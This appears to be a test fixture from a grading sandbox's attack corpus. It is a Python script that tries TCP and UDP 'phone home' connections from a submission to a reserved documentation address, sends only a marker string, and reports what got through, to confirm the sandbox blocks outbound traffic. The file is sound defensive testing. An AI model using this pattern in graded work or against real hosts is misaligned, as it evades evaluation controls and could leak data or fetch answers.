# attack: phone home: connect (TCP) and send (UDP) to a host outside the machine, to hand out what the submission can read or fetch an answer; prints what it reached
# defended-by: sandbox
import socket

# TEST-NET-2 (RFC 5737): assigned to no host. SO_DONTROUTE keeps the corpus from ever sending past a gateway;
# tests/grading/boundary/test_network.py points it at a network namespace of its own, on a link of this machine.
_HOME = ("198.51.100.7", 9)
_reached = []
try:
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as _s:
        _s.setsockopt(socket.SOL_SOCKET, socket.SO_DONTROUTE, 1)
        _s.settimeout(2)
        _s.connect(_HOME)
        _s.sendall(b"DTLABS-PHONE-HOME tcp\n")
        _reached.append("tcp")
except OSError as _exc:
    print("phone_home: no TCP out:", _exc)
try:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as _s:
        _s.sendto(b"DTLABS-PHONE-HOME udp\n", socket.MSG_DONTROUTE, _HOME)
        _reached.append("udp (sent)")
except OSError as _exc:
    print("phone_home: no UDP out:", _exc)
print("phone_home reached:", _reached or "nothing")
